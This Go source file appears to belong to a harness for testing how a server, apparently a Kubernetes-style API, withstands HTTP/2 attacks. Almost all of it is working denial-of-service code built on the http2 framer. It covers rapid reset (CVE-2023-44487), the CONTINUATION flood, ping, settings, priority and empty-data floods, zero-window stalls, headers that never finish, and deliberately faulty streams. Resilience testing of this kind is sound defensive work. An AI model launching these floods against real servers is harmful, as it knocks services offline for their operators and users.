package main

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// Attacks on HTTP/2 itself: streams that wait, headers that do not end, frames that cost the sender nothing.

const (
	streams  = 250 // a connection
	bigField = 4000
)

// bulk is header fields of so many bytes all in all.
func bulk(size int) (pairs []string) {
	for i := 0; size > 0; i++ {
		n := min(size, bigField)
		pairs = append(pairs, fmt.Sprintf("x-bulk-%d", i), strings.Repeat("b", n))
		size -= n
	}
	return pairs
}

var noWindow = http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}

func init() {
	attacks = append(attacks,
		attack{Name: "h2-window-zero", Seconds: 20, Anonymous: true, Account: "streams",
			Quick: 12,
			What:  "250 GETs a connection whose answers have no window to be sent in",
			run: func(ctx context.Context, g *ground) {
				g.crowdOfH2(ctx, g.amount(185), g.nobody, false, func(h *h2) error { return h.requests(streams, "/x") }, noWindow)
			}},
		attack{Name: "h2-window-zero-admin", Seconds: 20, Account: "streams",
			Quick: 6,
			What:  "the same with credentials, of an object of 100 KB and of small lists",
			run: func(ctx context.Context, g *ground) {
				g.crowdOfH2(ctx, g.amount(185), g.admin, false, func(h *h2) error {
					return h.requests(streams, groundPath+"/configmaps/large", groundPath+"/configmaps?limit=5", "/apis", "/metrics")
				}, noWindow)
			}},
		attack{Name: "h2-answers-unread", Account: "answers", Quick: 5,
			What: "patches of two bytes whose answers, 60 KB and some 900 KB, have no window to be sent in",
			run: func(ctx context.Context, g *ground) {
				g.crowdOfH2(ctx, g.amount(4), g.admin, false, func(h *h2) error {
					n := 0
					return h.trickle(100*time.Millisecond, func() error {
						n++
						if n > 100 {
							return nil // no more are allowed at once, and DATA of a stream that was refused ends the connection
						}
						name := "/configmaps/middle"
						if n%20 == 0 {
							name = "/configmaps/huge"
						}
						id, err := h.open(h.header("PATCH", groundPath+name, "content-type", mergePatch), false)
						return errors.Join(err, h.framer.WriteData(id, true, []byte("{}")))
					})
				}, noWindow)
			}},
		attack{Name: "h2-headers-open", Seconds: 10, Anonymous: true, Account: "headers",
			Quick: 6,
			What:  "streams with 60 KB of header whose body never comes",
			run: func(ctx context.Context, g *ground) {
				g.crowdOfH2(ctx, g.amount(20), g.nobody, false, func(h *h2) error {
					return h.posts(streams, bulk(60_000)...)
				})
			}},
		attack{Name: "h2-headers-many", Anonymous: true, Account: "headers",
			What: "the same with 1,500 tiny fields a stream",
			run: func(ctx context.Context, g *ground) {
				var pairs []string
				for i := range 1500 {
					pairs = append(pairs, fmt.Sprintf("a%d", i), "b")
				}
				g.crowdOfH2(ctx, g.amount(20), g.nobody, false, func(h *h2) error { return h.posts(streams, pairs...) })
			}},
		attack{Name: "h2-headers-open-admin", Account: "headers",
			Quick: 4,
			What:  "streams with 60 KB of header, with credentials, whose body never comes",
			run: func(ctx context.Context, g *ground) {
				g.crowdOfH2(ctx, g.amount(20), g.admin, false, func(h *h2) error { return h.posts(streams, bulk(60_000)...) })
			}},
		attack{Name: "h2-continuation", Seconds: 15, Anonymous: true, Account: "headers",
			Quick: 5,
			What:  "a header that never ends: 48 KB, then a byte of CONTINUATION each 100 ms",
			run: func(ctx context.Context, g *ground) {
				g.crowdOfH2(ctx, g.amount(1000), g.nobody, false, func(h *h2) error {
					if err := h.openHeader(bulk(48_000)); err != nil {
						return err
					}
					field := h.header("GET", "/x", "x-more", "m")
					n := 0
					return h.trickle(100*time.Millisecond, func() error {
						n++
						return h.framer.WriteContinuation(1, false, field[n%len(field):n%len(field)+1])
					})
				})
			}},
		attack{Name: "h2-continuation-flood", Anonymous: true,
			What: "empty CONTINUATION frames without end (CVE-2024-27316)",
			run: func(ctx context.Context, g *ground) {
				g.crowdOfH2(ctx, g.amount(8), g.nobody, false, func(h *h2) error {
					if err := h.openHeader(nil); err != nil {
						return err
					}
					return h.flood(func() error { return h.framer.WriteContinuation(1, false, nil) })
				})
			}},
		attack{Name: "h2-window-update-zero", Anonymous: true, Account: "streams",
			Quick: 5,
			What:  "HEADERS followed by WINDOW_UPDATE 0, which makes the server reset the stream (CVE-2025-8671)",
			run: func(ctx context.Context, g *ground) {
				g.crowdOfH2(ctx, g.amount(8), g.nobody, false, func(h *h2) error {
					return h.flood(func() error {
						id, err := h.open(h.header("GET", "/x"), false)
						if err == nil {
							err = h.framer.WriteWindowUpdate(id, 0)
						}
						return err
					})
				})
			}},
		attack{Name: "h2-stream-errors", Anonymous: true, Account: "streams",
			What: "its kind: each stream is opened with another fault that makes the server reset it",
			run: func(ctx context.Context, g *ground) {
				g.crowdOfH2(ctx, g.amount(8), g.nobody, false, func(h *h2) error {
					n := 0
					return h.flood(func() error {
						n++
						return h.faulty(n)
					})
				})
			}},
		attack{Name: "h2-rapid-reset", Anonymous: true, Account: "streams",
			Quick: 5,
			What:  "HEADERS followed by RST_STREAM, reconnecting after each GOAWAY (CVE-2023-44487)",
			run: func(ctx context.Context, g *ground) {
				g.crowdOfH2(ctx, g.amount(8), g.nobody, false, func(h *h2) error { return h.resets("/x") })
			}},
		attack{Name: "h2-rapid-reset-admin", Account: "streams",
			What: "the same with credentials, of lists",
			run: func(ctx context.Context, g *ground) {
				g.crowdOfH2(ctx, g.amount(8), g.admin, false, func(h *h2) error { return h.resets(groundPath + "/configmaps") })
			}},
		attack{Name: "h2-ping-flood", Anonymous: true, Account: "connections",
			Quick: 3,
			What:  "PINGs whose answers are not read (CVE-2019-9512)",
			run: func(ctx context.Context, g *ground) {
				g.crowdOfH2(ctx, g.amount(100), g.nobody, true, func(h *h2) error {
					return h.flood(func() error { return h.framer.WritePing(false, [8]byte{}) })
				})
			}},
		attack{Name: "h2-settings-flood", Anonymous: true, Account: "connections",
			What: "SETTINGS whose acknowledgements are not read (CVE-2019-9515)",
			run: func(ctx context.Context, g *ground) {
				g.crowdOfH2(ctx, g.amount(100), g.nobody, true, func(h *h2) error {
					return h.flood(func() error { return h.framer.WriteSettings() })
				})
			}},
		attack{Name: "h2-priority-flood", Anonymous: true, Account: "connections",
			What: "PRIORITY frames for ever new streams (CVE-2019-9513)",
			run: func(ctx context.Context, g *ground) {
				g.crowdOfH2(ctx, g.amount(16), g.nobody, true, func(h *h2) error {
					id := uint32(1)
					return h.flood(func() error {
						id = id%(1<<30) + 2
						return h.framer.WritePriority(id, http2.PriorityParam{StreamDep: 0, Weight: 16})
					})
				})
			}},
		attack{Name: "h2-empty-data", Anonymous: true,
			What: "empty DATA frames without end (CVE-2019-9518)",
			run: func(ctx context.Context, g *ground) {
				g.crowdOfH2(ctx, g.amount(8), g.nobody, false, func(h *h2) error {
					id, err := h.open(h.header("POST", groundPath+"/configmaps"), false)
					if err != nil {
						return err
					}
					return h.flood(func() error { return h.framer.WriteData(id, false, nil) })
				})
			}},
		attack{Name: "h2-data-open", Account: "incoming", Seconds: 15,
			Quick: 5,
			What:  "four bodies of 15 KB a connection of which the rest never comes",
			run: func(ctx context.Context, g *ground) {
				piece := make([]byte, 15_000)
				g.crowdOfH2(ctx, g.amount(2000), g.admin, false, func(h *h2) error {
					for range 4 {
						id, err := h.open(h.header("POST", groundPath+"/configmaps", "content-type", jsonType), false)
						if err == nil {
							err = h.framer.WriteData(id, false, piece)
						}
						if err != nil {
							return err
						}
					}
					return h.hold()
				})
			}},
		attack{Name: "h2-unread", Anonymous: true, Account: "streams",
			Quick: 4,
			What:  "requests without end on connections of which nothing is read",
			run: func(ctx context.Context, g *ground) {
				g.crowdOfH2(ctx, g.amount(100), g.nobody, true, func(h *h2) error {
					return h.flood(func() error { _, err := h.open(h.header("GET", "/x"), true); return err })
				})
			}},
	)
}

// requests opens n streams with GETs of these paths in turn, and holds them.
func (h *h2) requests(n int, paths ...string) error {
	for i := range n {
		if _, err := h.open(h.header("GET", paths[i%len(paths)]), true); err != nil {
			return err
		}
	}
	return h.hold()
}

// posts opens n streams whose body never comes, and holds them.
func (h *h2) posts(n int, pairs ...string) error {
	block := h.header("POST", groundPath+"/configmaps", pairs...)
	for range n {
		if _, err := h.open(block, false); err != nil {
			return err
		}
	}
	return h.hold()
}

// openHeader begins a header with these fields and does not end it.
func (h *h2) openHeader(pairs []string) error {
	block := h.header("GET", "/x", pairs...)
	piece := block[:min(len(block), 16384)]
	err := h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: piece, EndStream: true})
	for rest := block[len(piece):]; err == nil && len(rest) > 0; rest = rest[len(piece):] {
		piece = rest[:min(len(rest), 16384)]
		err = h.framer.WriteContinuation(1, false, piece)
	}
	return err
}

// flood calls step as often as it can, until it fails or the connection ends. A write may block where nobody reads.
func (h *h2) flood(step func() error) error {
	for n := 0; n%64 != 0 || h.held(); n++ {
		if err := step(); err != nil {
			return err
		}
		if n%64 == 63 {
			if err := h.out.Flush(); err != nil {
				return err
			}
		}
	}
	return h.hold()
}

func (h *h2) resets(path string) error {
	return h.flood(func() error {
		id, err := h.open(h.header("GET", path), true)
		if err == nil {
			err = h.framer.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		return err
	})
}

// faulty opens a stream in a way that the server may answer with a reset.
func (h *h2) faulty(n int) error {
	switch n % 4 {
	case 0: // depends on itself
		id := h.next
		h.next += 2
		h.g.count("streams", 1)
		return h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.header("GET", "/x"), EndStream: true,
			EndHeaders: true, Priority: http2.PriorityParam{StreamDep: id, Weight: 1}})
	case 1: // more than content-length says
		id, err := h.open(h.header("POST", "/x", "content-length", "1"), false)
		if err != nil {
			return err
		}
		return h.framer.WriteData(id, true, []byte("more"))
	case 2: // a field that HTTP/2 forbids
		_, err := h.open(h.header("GET", "/x", "connection", "close"), true)
		return err
	default: // a window that overflows
		id, err := h.open(h.header("GET", "/x"), false)
		if err == nil {
			err = h.framer.WriteWindowUpdate(id, 1<<31-1)
		}
		return err
	}
}
